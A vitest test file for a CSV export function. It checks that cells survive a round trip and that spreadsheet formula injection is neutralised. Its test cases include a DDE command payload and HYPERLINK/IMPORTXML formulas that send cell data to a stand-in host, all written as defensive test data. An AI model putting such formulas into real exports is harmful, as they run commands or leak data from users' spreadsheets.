import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { csvLine } from './csv.ts'

/** As a spreadsheet splits it; what it would then execute is what begins like this. */
const read = (line: string): string[] => parse(line, { record_delimiter: '\r\n', relax_column_count: true })[0]!
const EXECUTED = /^[=+\-@\t\r\n\0＝＋－＠]/

test('a line is read back as it was', () => {
  const cells = ['plain', 'a "quoted" word', 'two\r\nlines', 'comma, comma', '', 'ñandú', ';semicolon']
  expect(read(csvLine(cells))).toEqual(cells)
  expect(csvLine([1, null, -5])).toBe('1,,-5\r\n')
})

test.each([
  '=1+1',
  '+14155550100',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\0=1',
  ' =1',
  '\u00a0=1',
  '\ufeff=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("http://example.com?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://example.com/?v=",A1),"//a")',
  '"=1+1"'.slice(1),
])('nothing is executed: %j', text => {
  const [first, second] = read(csvLine([text, 'next']))
  expect(first).toBe(`'${text}`)
  expect(second).toBe('next')
})

test('whatever stands in a cell, it stays in its cell and is no formula', () => {
  const text = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', "'", ',', ' ', 'a', '＝', '\0'),
  })
  fc.assert(
    fc.property(fc.array(text, { minLength: 2, maxLength: 5 }), cells => {
      const parsed = read(csvLine(cells))
      expect(parsed).toHaveLength(cells.length)
      for (const [index, shown] of parsed.entries()) {
        expect(shown).not.toMatch(EXECUTED)
        expect([cells[index], `'${cells[index]}`]).toContain(shown)
      }
    }),
  )
})
